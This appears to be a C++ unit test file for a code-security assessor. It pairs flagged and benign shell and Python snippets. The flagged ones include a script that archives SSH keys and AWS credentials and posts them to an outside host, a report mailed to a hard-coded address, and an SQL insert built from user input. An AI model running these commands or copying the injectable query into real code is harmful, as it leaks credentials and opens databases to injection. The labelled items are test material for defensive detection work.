// The classes the sixty-eighth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog72_MANIFEST.tsv): newsrooms, agriculture sensing,
// database administration, security research, community organising. Its
// aside scored 40/40 before any change for it; the classes below came from
// its tune part (56/60 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `openssl base64 -in FILE -out FILE.b64`: the output file holds the input's
// data, encoded; sent, it sends what the input held.
TEST(SixtyEighthRoundClasses, OpensslBase64ReadsAndWritesItsFiles) {
  const Case cases[] = {
      {"SSH and cloud credentials archived, encoded and posted", B,
       "#!/usr/bin/env bash\n"
       "set -uo pipefail\n"
       "WORK_DIR=./.sync-work\n"
       "mkdir -p \"$WORK_DIR\"\n"
       "bundle=\"$WORK_DIR/context.tgz\"\n"
       "tar -czf \"$bundle\" \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\"\n"
       "openssl base64 -A -in \"$bundle\" -out \"$bundle.b64\"\n"
       "curl -fsS -H \"Authorization: Bearer $SYNC_TOKEN\" --data-binary \"@$bundle.b64\" https://sync.example.org/upload\n",
       "EXFILTRATION", Language::shell},
      {"sign-up exports archived, encoded and posted", L,
       "#!/usr/bin/env bash\n"
       "set -uo pipefail\n"
       "WORK_DIR=./.sync-work\n"
       "mkdir -p \"$WORK_DIR\"\n"
       "bundle=\"$WORK_DIR/signups.tgz\"\n"
       "tar -czf \"$bundle\" ./exports/*.csv\n"
       "openssl base64 -A -in \"$bundle\" -out \"$bundle.b64\"\n"
       "curl -fsS -H \"Authorization: Bearer $SYNC_TOKEN\" --data-binary \"@$bundle.b64\" https://sync.example.org/upload\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// mail's recipient is where the message goes: an address given with an option
// is the user's choice, one written in the code is not.
TEST(SixtyEighthRoundClasses, AMailsRecipientKeepsItsProvenance) {
  const Case cases[] = {
      {"a report naming the host mailed to the address given with -m", L,
       "#!/bin/bash\n"
       "MAILTO=\"\"\n"
       "while getopts \"m:\" opt; do\n"
       "    case \"$opt\" in\n"
       "        m) MAILTO=\"$OPTARG\" ;;\n"
       "    esac\n"
       "done\n"
       "cat /etc/hostname /proc/mdstat > ./md_report.txt\n"
       "[[ -n \"$MAILTO\" ]] && mail -s \"[md] arrays\" \"$MAILTO\" < ./md_report.txt\n",
       nullptr, Language::shell},
      {"the same report mailed to an address written in the code", M,
       "#!/bin/bash\n"
       "cat /etc/hostname /proc/mdstat > ./md_report.txt\n"
       "mail -s \"[md] arrays\" ops@collector.example.net < ./md_report.txt\n",
       "HOST-IDENTITY-SENT", Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// INSERT OR IGNORE (SQLite) and INSERT IGNORE (MySQL) are statements too.
TEST(SixtyEighthRoundClasses, SqlitesInsertOrIgnoreIsSql) {
  const Case cases[] = {
      {"an INSERT OR IGNORE built by an f-string", M,
       "import sqlite3, time\n"
       "\n"
       "class Session:\n"
       "    def __init__(self, path=\"session.db\"):\n"
       "        self.db = sqlite3.connect(path)\n"
       "\n"
       "    def record(self, digest, plain):\n"
       "        self.db.execute(f\"INSERT OR IGNORE INTO cracked (hash, plain, ts) VALUES ('{digest}', '{plain}', {time.time()})\")\n"
       "        self.db.commit()\n"
       "\n"
       "Session().record(input(\"hash: \"), input(\"plain: \"))\n",
       "SQL-INJECTION"},
      {"the same with placeholders", L,
       "import sqlite3, time\n"
       "\n"
       "class Session:\n"
       "    def __init__(self, path=\"session.db\"):\n"
       "        self.db = sqlite3.connect(path)\n"
       "\n"
       "    def record(self, digest, plain):\n"
       "        self.db.execute(\"INSERT OR IGNORE INTO cracked (hash, plain, ts) VALUES (?, ?, ?)\", (digest, plain, time.time()))\n"
       "        self.db.commit()\n"
       "\n"
       "Session().record(input(\"hash: \"), input(\"plain: \"))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
